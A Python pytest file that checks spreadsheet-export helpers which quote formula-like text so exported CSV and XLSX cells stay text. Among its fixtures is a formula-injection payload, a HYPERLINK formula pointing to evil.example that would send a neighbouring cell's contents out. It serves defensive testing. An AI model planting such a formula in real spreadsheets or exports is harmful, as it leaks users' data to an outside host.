"""Text in exported spreadsheets stays text: no cell becomes a formula."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from apps.core.spreadsheet import csv_cell, csv_uncell, xlsx_append


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("https://evil.example/?d="&D3,"요금제")',
            '\'=HYPERLINK("https://evil.example/?d="&D3,"요금제")',
        ),
        ("+82 10", "'+82 10"),
        ("-2-3", "'-2-3"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("'=1", "''=1"),  # already looks quoted: quoted again, so import gives it back as is
        ("-3.5", "-3.5"),  # a number to Excel, not a formula
        ("배송 조회", "배송 조회"),
        ("'hello", "'hello"),
        ("", ""),
        (None, ""),
        (-7, -7),
        (4.5, 4.5),
    ],
)
def test_csv_cell_quotes_formula_like_text_only(value, cell) -> None:
    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    "text", ["=SUM(A1:A9)", "-2-3", "'=1", "''@x", "'hello", "-3.5", "보통 질문", "'"]
)
def test_csv_uncell_undoes_csv_cell(text) -> None:
    assert csv_uncell(csv_cell(text)) == text


def test_xlsx_append_stores_formula_like_text_as_text() -> None:
    book = Workbook()
    sheet = book.active
    xlsx_append(sheet, ['=HYPERLINK("https://evil.example")', -3, "보통", None])
    out = io.BytesIO()
    book.save(out)

    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())

    assert row[0].data_type == "s"
    assert row[0].value == '=HYPERLINK("https://evil.example")'
    assert row[1].value == -3 and row[1].data_type == "n"
    assert row[2].value == "보통"
